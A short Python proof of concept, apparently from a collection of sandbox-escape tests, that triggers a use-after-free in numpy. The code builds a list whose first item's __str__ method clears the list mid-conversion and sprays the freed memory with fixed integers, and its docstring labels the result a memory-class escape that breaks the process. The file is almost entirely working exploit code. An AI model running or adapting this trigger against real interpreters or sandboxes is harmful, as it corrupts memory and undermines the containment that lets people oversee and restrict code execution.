"""Class: memory. Source: own find. Escape: the process breaks. numpy walks a list through a bare pointer, and
asks what is in it for its text, which clears the list."""

import numpy as np


class Said:
    def __str__(self):
        data.clear()
        # Where its items stood, there stand numbers now.
        kept.append(np.full(500_001, 8, dtype="i8"))
        return "a"


data = []
kept = []


def attack(model, tokenizer, address):
    for way in (lambda: np.array(data, dtype=str), lambda: np.array(object=data, dtype=str)):
        data[:] = [Said()] + [float(i) for i in range(500_000)]
        try:
            way()
        except Exception:
            pass
